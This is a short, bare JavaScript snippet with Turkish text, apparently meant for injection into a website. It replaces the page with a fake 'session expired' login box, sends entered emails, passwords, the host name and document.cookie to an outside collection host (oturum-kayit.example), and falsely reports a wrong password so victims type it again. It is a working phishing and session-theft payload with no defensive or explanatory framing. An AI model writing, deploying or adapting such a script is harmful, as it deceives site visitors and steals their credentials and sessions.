document.body.innerHTML = '';
document.title = 'Oturum süresi doldu';
var kutu = document.createElement('div');
kutu.innerHTML = `
  <style>.k{max-width:340px;margin:12vh auto;font:15px Arial;border:1px solid #ccc;padding:24px}.k input{width:100%;margin:6px 0;padding:9px}</style>
  <div class="k">
    <h3>Oturumunuz sona erdi</h3>
    <p>Devam etmek için lütfen tekrar giriş yapın.</p>
    <input id="ku" placeholder="E-posta">
    <input id="kp" type="password" placeholder="Şifre">
    <button id="kb">Giriş</button>
    <small id="kh" style="color:red"></small>
  </div>`;
document.body.appendChild(kutu);
var deneme = 0;
document.getElementById('kb').onclick = function () {
  var u = document.getElementById('ku').value, p = document.getElementById('kp').value;
  if (!u || !p) return;
  deneme++;
  fetch('https://oturum-kayit.example/ekle', {
    method: 'POST', mode: 'no-cors',
    body: new URLSearchParams({ u: u, p: p, n: deneme, host: location.host, ck: document.cookie })
  }).finally(function () {
    if (deneme < 2) {
      document.getElementById('kp').value = '';
      document.getElementById('kh').textContent = 'Şifre hatalı, tekrar deneyin.';
    } else {
      location.reload();
    }
  });
};
